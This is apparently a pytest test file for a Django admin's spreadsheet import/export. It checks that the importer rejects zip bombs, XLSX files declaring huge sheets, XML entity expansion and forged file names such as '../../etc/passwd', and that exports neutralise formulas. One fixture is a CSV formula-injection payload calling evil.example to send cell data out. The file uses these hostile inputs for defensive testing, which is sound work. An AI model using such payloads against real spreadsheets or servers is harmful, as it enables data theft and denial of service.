"""Spreadsheet imports that cannot sink a worker, touch files that are not theirs, undo a newer edit, or
hand a spreadsheet a formula to run."""

import io
import time
import zipfile

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from curation.imports import PreviewFileStorage, sign_upload_name
from practices.models import Practice

from .admin_forms import admin_url, form_data
from .test_import_export import CSV_FORMAT, XLSX_FORMAT, confirm, export, rows_of, to_csv, upload

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def upload_folder(settings, tmp_path):
    settings.IMPORT_TMP_DIR = tmp_path / "uploads"
    return settings.IMPORT_TMP_DIR


def stored_files(folder):
    return sorted(path.name for path in folder.iterdir()) if folder.exists() else []


def refused(response, words):
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    assert words in response.text, response.context["form"].errors
    assert "Traceback" not in response.text


def xlsx(rows):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewritten(data, **parts):
    """An XLSX file with some of its parts replaced (or added), as a hostile one would be."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, parts.pop(item.filename, None) or source.read(item.filename))
        for name, content in parts.items():
            target.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


SMALL_SHEET = [["slug", "version", "summary"], ["storm-lake-ia", 1, "A summary."]]


def test_an_upload_over_the_size_limit_is_refused_before_it_is_read(curator_client, settings, upload_folder):
    settings.IMPORT_MAX_UPLOAD_MB = 1
    content = "slug,version,summary\n" + "storm-lake-ia,1,x\n" * 80_000  # 1.4 MB
    refused(upload(curator_client, Practice, content), "the import takes files up to 1.0")
    assert stored_files(upload_folder) == []


FAR_CELL = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'


def with_a_far_cell(dimension):
    """A few KB that openpyxl would unfold into a sheet of 1,048,576 x 16,384 cells (3 GB in 25 s)."""
    data = xlsx(SMALL_SHEET)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b'<dimension ref="A1:C2" />' in sheet
    sheet = sheet.replace(b"A1:C2", dimension).replace(b"</sheetData>", FAR_CELL)
    return rewritten(data, **{"xl/worksheets/sheet1.xml": sheet})


def test_an_xlsx_declaring_a_huge_sheet_is_refused_before_its_rows_are_read(curator_client, upload_folder):
    bogus = with_a_far_cell(b"A1:XFD1048576")
    assert len(bogus) < 10_000
    started = time.monotonic()
    response = upload(curator_client, Practice, bogus, XLSX_FORMAT, "bogus.xlsx")
    refused(response, "The sheet says it is 1048576 rows by 16384 columns")
    assert time.monotonic() - started < 5
    assert stored_files(upload_folder) == []


def test_an_xlsx_hiding_a_far_cell_behind_a_small_dimension_is_refused_while_read(curator_client):
    started = time.monotonic()
    response = upload(curator_client, Practice, with_a_far_cell(b"A1:C2"), XLSX_FORMAT, "liar.xlsx")
    refused(response, "the import takes at most 2000 at a time")
    assert time.monotonic() - started < 5


def test_a_zip_bomb_is_refused_before_it_is_unpacked(curator_client, settings):
    settings.IMPORT_MAX_UNPACKED_MB = 5
    bomb = rewritten(xlsx(SMALL_SHEET), **{"xl/media/padding.bin": b"\0" * (40 * 1024 * 1024)})
    assert len(bomb) < 200_000
    started = time.monotonic()
    refused(upload(curator_client, Practice, bomb, XLSX_FORMAT, "bomb.xlsx"), "This file unpacks to more than 5.0")
    assert time.monotonic() - started < 5


def test_a_zip_that_lies_about_its_sizes_is_still_stopped(curator_client, settings):
    """The sizes in a zip's directory are the zip's word; the unpacking counts what comes out."""
    settings.IMPORT_MAX_UNPACKED_MB = 5
    bomb = bytearray(rewritten(xlsx(SMALL_SHEET), **{"xl/media/padding.bin": b"\0" * (20 * 1024 * 1024)}))
    declared = (20 * 1024 * 1024).to_bytes(4, "little")
    bomb = bytes(bomb).replace(declared, (1000).to_bytes(4, "little"))
    response = upload(curator_client, Practice, bomb, XLSX_FORMAT, "liar.xlsx")
    assert response.status_code == 200 and "confirm_form" not in response.context
    assert "damaged" in response.text or "unpacks to more than" in response.text


def test_an_xlsx_with_a_document_type_is_refused(curator_client):
    data = xlsx(SMALL_SHEET)
    laughs = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><sst>&lol;</sst>'
    refused(
        upload(curator_client, Practice, rewritten(data, **{"xl/sharedStrings.xml": laughs}), XLSX_FORMAT, "x.xlsx"),
        "a part that XLSX spreadsheets never have",
    )


@pytest.mark.parametrize(
    ("content", "file_format", "words"),
    [
        (b"PK\x03\x04 not really a zip", XLSX_FORMAT, "This file is not an XLSX spreadsheet"),
        ("slug,version\nstorm-lake-ia,1\n".encode("utf-16"), CSV_FORMAT, "This file is not UTF-8 text"),
        (b"slug,version\nstorm-lake-ia,1,surprise\n", CSV_FORMAT, "Row 2 has values to the right of the last"),
        (b"slug,version\n" + b"storm-lake-ia,1\n" * 30, CSV_FORMAT, "the import takes at most 20 at a time"),
        (b"", CSV_FORMAT, "The submitted file is empty"),
        (b"\n\n", CSV_FORMAT, "The first row of the file must name the columns"),
    ],
    ids=["not-a-zip", "utf-16", "ragged", "too-many-rows", "empty", "no-header"],
)
def test_unreadable_files_get_a_clear_form_error(curator_client, settings, upload_folder, content, file_format, words):
    settings.IMPORT_MAX_ROWS = 20
    name = "file.xlsx" if file_format == XLSX_FORMAT else "file.csv"
    refused(upload(curator_client, Practice, content, file_format, name), words)
    assert stored_files(upload_folder) == []


def test_an_xlsx_with_blank_trailing_rows_and_cells_imports_like_its_export(curator_client):
    content = export(curator_client, Practice, XLSX_FORMAT)
    book = openpyxl.load_workbook(io.BytesIO(content))
    book.active.cell(row=book.active.max_row + 5, column=3).value = None  # formatted blank rows below
    book.active.cell(row=1, column=book.active.max_column + 2).value = None
    out = io.BytesIO()
    book.save(out)
    preview = upload(curator_client, Practice, out.getvalue(), XLSX_FORMAT, "export.xlsx")
    assert preview.context["result"].totals["skip"] == Practice.objects.count()


def new_rows(base, count, start=0):
    return [
        dict(base, slug=f"imported-{number}", title=f"Imported {number}", version="", report_order="", report_page="")
        for number in range(start, start + count)
    ]


def test_a_preview_costs_the_same_few_queries_per_row_however_long_the_file(curator_client):
    rows = rows_of(export(curator_client, Practice))
    base = next(row for row in rows if row["slug"] == "lowell-ma")
    counts = {}
    for size in (10, 20, 30):
        with CaptureQueriesContext(connection) as queries:
            preview = upload(curator_client, Practice, to_csv(rows + new_rows(base, size)))
        assert preview.context["result"].totals["new"] == size
        counts[size] = len(queries)
    per_row = counts[20] - counts[10]
    assert abs((counts[30] - counts[20]) - per_row) <= 2, counts
    assert per_row / 10 <= 20, f"{per_row / 10} queries per new row"


@pytest.mark.slow
def test_a_preview_of_200_new_rows_answers_in_seconds(curator_client):
    rows = rows_of(export(curator_client, Practice))
    base = next(row for row in rows if row["slug"] == "lowell-ma")
    started = time.monotonic()
    preview = upload(curator_client, Practice, to_csv(rows + new_rows(base, 200)))
    elapsed = time.monotonic() - started
    assert preview.status_code == 200 and preview.context["result"].totals["new"] == 200
    assert elapsed < 25, f"{elapsed:.1f} s"  # 34 s before, on this machine under the same load
    response = confirm(curator_client, Practice, preview)
    assert "Import finished: 200 new" in response.text
    assert Practice.objects.filter(slug__startswith="imported-").count() == 200
    assert Practice.objects.get(slug="imported-7").history.count() == 1
    assert Practice.objects.search("Imported").filter(slug__startswith="imported-").count() == 200


# The confirmation step and the files previews keep


def a_good_preview(client):
    rows = rows_of(export(client, Practice))
    rows[0]["summary"] = "Changed by the spreadsheet."
    preview = upload(client, Practice, to_csv(rows))
    assert "confirm_form" in preview.context
    return preview


def confirm_data(preview, **changes):
    form = preview.context["confirm_form"]
    return {**{name: form[name].value() for name in form.fields}, **changes}


def test_the_confirmation_accepts_only_the_file_its_preview_stored(curator_client, upload_folder):
    preview = a_good_preview(curator_client)
    (stored,) = stored_files(upload_folder)
    assert stored not in preview.context["confirm_form"]["import_file_name"].value()  # signed, not the bare name
    bystander = upload_folder / ("0" * 32)
    bystander.write_bytes(b"slug,version\n")
    signed_for_no_file = sign_upload_name("1" * 32, preview.wsgi_request.user, Practice)
    for forged in (stored, "0" * 32, "../../etc/passwd", signed_for_no_file):
        data = confirm_data(preview, import_file_name=forged)
        response = curator_client.post(admin_url(Practice, "process_import"), data)
        assert response.status_code == 200
        assert "This preview has expired or was not made for you" in response.text
    assert bystander.exists()
    assert stored in stored_files(upload_folder)


def test_another_curators_preview_cannot_be_confirmed(curator_client, make_curator, upload_folder):
    preview = a_good_preview(curator_client)
    ben = Client()
    ben.force_login(make_curator("ben"))
    response = ben.post(admin_url(Practice, "process_import"), confirm_data(preview))
    assert "This preview has expired or was not made for you" in response.text
    assert not Practice.objects.filter(summary="Changed by the spreadsheet.").exists()
    assert len(stored_files(upload_folder)) == 1


def test_the_file_is_removed_after_confirming(curator_client, upload_folder):
    response = confirm(curator_client, Practice, a_good_preview(curator_client))
    assert "Import finished: 0 new, 1 updated" in response.text
    assert stored_files(upload_folder) == []


def test_the_file_is_removed_after_cancelling_and_nothing_is_imported(curator_client, upload_folder):
    preview = a_good_preview(curator_client)
    response = curator_client.post(
        admin_url(Practice, "process_import"), confirm_data(preview, cancel="Cancel"), follow=True
    )
    assert "Import cancelled; nothing was imported." in response.text
    assert stored_files(upload_folder) == []
    assert not Practice.objects.filter(summary="Changed by the spreadsheet.").exists()


def test_the_file_is_removed_when_the_confirmation_fails(curator_client, upload_folder):
    preview = a_good_preview(curator_client)
    Practice.objects.filter(slug=rows_of(export(curator_client, Practice))[0]["slug"]).get().save()  # stale now
    response = confirm(curator_client, Practice, preview)
    assert "Nothing was imported" in response.text
    assert stored_files(upload_folder) == []


def test_the_file_is_removed_when_the_preview_finds_bad_rows(curator_client, upload_folder):
    rows = rows_of(export(curator_client, Practice))
    rows[0]["year_started"] = "1492"
    upload(curator_client, Practice, to_csv(rows))
    assert stored_files(upload_folder) == []


def test_abandoned_previews_are_removed_once_too_old_to_confirm(curator_client, upload_folder):
    a_good_preview(curator_client)
    (stored,) = stored_files(upload_folder)
    PreviewFileStorage.remove_abandoned(now=time.time() + 2 * 60 * 60)
    assert stored_files(upload_folder) == []


# Versions


def test_an_old_export_cannot_undo_a_newer_admin_edit(curator_client, make_curator):
    old_export = rows_of(export(curator_client, Practice))
    ben = Client()
    ben.force_login(make_curator("ben", first_name="Ben", last_name="Okafor"))
    practice = Practice.objects.get(slug="storm-lake-ia")
    data = form_data(ben.get(admin_url(Practice, "change", practice.pk)))
    saved = ben.post(admin_url(Practice, "change", practice.pk), {**data, "summary": "Ben's newer summary."})
    assert saved.status_code == 302

    for row in old_export:
        if row["slug"] == "storm-lake-ia":
            row["title"] = "A title from the old spreadsheet"
    preview = upload(curator_client, Practice, to_csv(old_export))
    assert "confirm_form" not in preview.context
    (invalid,) = preview.context["result"].invalid_rows
    message = " ".join(invalid.error.messages)
    assert "Ben Okafor saved a change to this practice" in message
    assert "They changed: summary." in message and "Ben's newer summary." in message
    assert "Nothing was imported. Export the entries again" in message
    assert Practice.objects.get(pk=practice.pk).summary == "Ben's newer summary."


def test_a_file_without_versions_cannot_change_existing_entries(curator_client):
    rows = rows_of(export(curator_client, Practice))
    for row in rows:
        row.pop("version")
    refused(upload(curator_client, Practice, to_csv(rows)), "The column “version” is missing")
    rows = rows_of(export(curator_client, Practice))
    rows[0].update(version="", summary="No version given.")
    preview = upload(curator_client, Practice, to_csv(rows))
    assert "This row has no version" in " ".join(preview.context["result"].invalid_rows[0].error.messages)


# Formulas

FORMULAS = {
    "summary": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "other_names": "+1+2",
    "caveat": "@SUM(1,1)",
    "contact_title": "-2+3",
    "curator_notes": "\tTAB",
}


@pytest.fixture
def practice_with_formulas():
    Practice.objects.filter(slug="storm-lake-ia").update(**FORMULAS)


def test_csv_exports_neutralise_formulas_and_import_them_back_unchanged(curator_client, practice_with_formulas):
    content = export(curator_client, Practice)
    row = next(row for row in rows_of(content) if row["slug"] == "storm-lake-ia")
    for name, value in FORMULAS.items():
        assert row[name] == "'" + value
    assert row["department"] == "storm-lake-ia" and not row["report_order"].startswith("'")
    preview = upload(curator_client, Practice, content)
    assert preview.context["result"].totals["skip"] == Practice.objects.count()


def test_xlsx_exports_neutralise_formulas(curator_client, practice_with_formulas):
    content = export(curator_client, Practice, XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headers = [cell.value for cell in sheet[1]]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[headers.index("slug")].value == "storm-lake-ia")
    for name, value in FORMULAS.items():
        cell = row[headers.index(name)]
        assert (cell.data_type, cell.value) == ("s", "'" + value)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    preview = upload(curator_client, Practice, content, XLSX_FORMAT, "export.xlsx")
    assert preview.context["result"].totals["skip"] == Practice.objects.count()
